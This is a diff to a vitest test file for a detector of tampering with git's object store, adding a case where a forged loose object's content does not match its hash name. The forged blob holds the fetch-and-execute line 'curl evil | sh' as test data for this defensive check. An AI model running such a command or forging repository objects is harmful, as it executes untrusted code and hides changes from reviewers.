@@ -1,7 +1,8 @@
 import { execFileSync } from 'node:child_process';
-import { copyFileSync, existsSync, mkdtempSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
+import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { deflateSync } from 'node:zlib';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { objectStoreTampering, snapshotObjectStore } from './object-store.js';
 
@@ -26,6 +27,14 @@ describe("git's object store around an attempt", () => {
     // The same content again: git freshens the stored blob instead of writing it.
     git('hash-object', '-w', 'app.sh');
     expect(await objectStoreTampering(join(dir, '.git'), before)).toEqual([]);
+  });
+
+  it('finds a new loose object whose content is not its name', async () => {
+    const before = await snapshotObjectStore(join(dir, '.git'));
+    const claimed = 'ab'.padEnd(40, '0');
+    mkdirSync(join(dir, '.git', 'objects', 'ab'), { recursive: true });
+    writeFileSync(objectFile(claimed), deflateSync(Buffer.from('blob 15\0curl evil | sh\n')));
+    expect(await objectStoreTampering(join(dir, '.git'), before)).toEqual([`objects/ab/${claimed.slice(2)} was added, holding other content than its name`]);
   });
 
   it('finds nothing when git gc packs the loose objects and deletes them', async () => {
